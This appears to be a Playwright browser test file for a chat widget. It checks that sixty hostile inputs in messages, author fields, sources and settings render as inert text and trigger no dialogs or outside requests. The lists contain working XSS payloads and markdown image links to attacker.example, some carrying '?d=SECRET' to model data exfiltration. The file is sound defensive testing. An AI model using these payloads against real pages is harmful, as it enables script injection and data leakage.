"""Hostile text in every field that the widget shows: nothing runs, and nobody else is called."""

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import WidgetPage

pytestmark = pytest.mark.browser

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://attacker.example/p.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://attacker.example/a.mp3 autoplay>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://attacker.example/e.swf>",
    "<link rel=stylesheet href=https://attacker.example/s.css>",
    "<style>@import 'https://attacker.example/s.css';</style>",
    "<base href=https://attacker.example/>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<form action=https://attacker.example/><input name=x autofocus onfocus=alert(1)></form>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "'\"><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202e<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](blob:https://attacker.example/1)",
    "[x](//attacker.example/)",
    "[x](/\\attacker.example/)",
    "[x](https://good.example@attacker.example/)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[![x](https://attacker.example/p.png)](javascript:alert(1))",
]
PICTURES = [
    "![x](https://attacker.example/p.png?d=SECRET)",
    "![x](//attacker.example/p.png)",
    "![x](/\\attacker.example/p.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x][y]\n\n[y]: https://attacker.example/p.png",
    "![x](https://attacker.example/p.png 'onerror=alert(1)')",
    '![x"onerror="alert(1)](/x.png)',
    "![x](https://127.0.0.1@attacker.example/p.png)",
    "![x](http://attacker.example:80/p.png)",
    "| ![x](https://attacker.example/p.png) |\n|---|\n| ![x](https://attacker.example/q.png) |",
    "- ![x](https://attacker.example/p.png)\n  > ![x](https://attacker.example/q.png)",
]
PAYLOADS = [*SCRIPTS, *LINKS, *PICTURES]


@pytest.fixture
def incidents(page: Page, module_site: str) -> list[str]:
    """Dialogs, and requests to any address but the page's own."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda request: None if request.url.startswith(module_site) else seen.append(request.url))
    return seen


def test_there_are_sixty_payloads_and_each_is_another() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) == 60


def hostile_source(payload: str, number: int) -> dict[str, object]:
    address = payload.partition("](")[2].rstrip(")") or payload
    return {"n": number, "article": payload, "title": payload, "heading": payload, "url": address, "quote": payload}


def test_hostile_text_is_shown_and_does_nothing(widget: WidgetPage, incidents: list[str]) -> None:
    for payload in PAYLOADS:
        author = {"name": payload, "avatar": payload.partition("](")[2].rstrip(")") or payload}
        widget.chat.message("customer", payload)
        widget.chat.message("assistant", f"{payload} [1]", decision="answer", sources=[hostile_source(payload, 1)])
        widget.chat.message("agent", payload, author=author)
        widget.chat.message("system", payload)
        widget.chat.update("agent", agent=author)
    widget.chat.progress("answer.delta", turn="open", offset=0, text="\n\n".join(PAYLOADS))
    widget.chat.message("agent", "the last of them", author=None)
    expect(widget.thread.get_by_text("the last of them")).to_be_visible()
    expect(widget.thread.locator(".own .bubble").first).to_contain_text("<script>alert(1)</script>")
    follow_every_link(widget)
    assert incidents == []
    assert widget.thread.evaluate(LIVE_NODES) == []


LIVE_NODES = """(node) => [...node.querySelectorAll("*")].flatMap((one) => [
  ...(/^(script|iframe|object|embed|link|style|base|meta|form|video|audio|template)$/i.test(one.tagName)
    && !one.closest(".comment, .card") ? [one.tagName] : []),
  ...[...one.attributes].filter((each) => each.name.startsWith("on")).map((each) => each.name),
  ...(one.href && new URL(one.href).protocol.startsWith("http") === false ? [one.href] : []),
])"""


def follow_every_link(widget: WidgetPage) -> None:
    """Click what looks like a link, kept on this page: a script address would run here."""
    widget.thread.evaluate(
        """(node) => {
          const stay = (event) => /^https?:/.test(event.target.closest("a")?.href) && event.preventDefault();
          node.addEventListener("click", stay);
          for (const link of node.querySelectorAll("a")) { link.target = "_self"; link.click(); }
        }"""
    )


@pytest.mark.parametrize("field", ["name", "greeting", "suggestions", "accent"])
def test_hostile_settings_are_shown_and_do_nothing(widget: WidgetPage, incidents: list[str], field: str) -> None:
    for payload in PAYLOADS:
        widget.page.evaluate(
            "(settings) => document.querySelector('answerdesk-widget').apply(settings)",
            {field: [payload] if field == "suggestions" else payload},
        )
    widget.page.wait_for_function("document.querySelector('answerdesk-widget').isConnected")
    assert incidents == []


def test_a_strict_policy_of_the_host_page_is_enough(page: Page, module_site: str) -> None:
    policy = (
        f"default-src 'none'; script-src {module_site} 'nonce-n'; connect-src {module_site} ws:; img-src 'none'; "
        "style-src 'none'; require-trusted-types-for 'script'"
    )
    violations: list[str] = []
    page.on("console", lambda message: violations.append(message.text) if message.type == "error" else None)
    host = f"{module_site}/host"
    body = (
        "<!doctype html><title>Host</title><body><script nonce=n type=module>"
        "await import('/static/widget/widget.js');"
        "const element = document.createElement('answerdesk-widget');"
        "element.setAttribute('key', 'wk'); element.settings = {name: 'Shop', accent: '#aa3355', greeting: 'Hello'};"
        "document.body.append(element);</script>"
    )
    headers = {"Content-Security-Policy": policy, "Content-Type": "text/html"}
    page.route(host, lambda route: route.fulfill(body=body, headers=headers))
    page.goto(host)
    widget = WidgetPage(page, module_site)
    widget.open()
    expect(widget.thread).to_contain_text("Hello")
    assert page.locator("answerdesk-widget .panel").evaluate("(node) => getComputedStyle(node).borderRadius") == "16px"
    assert violations == []
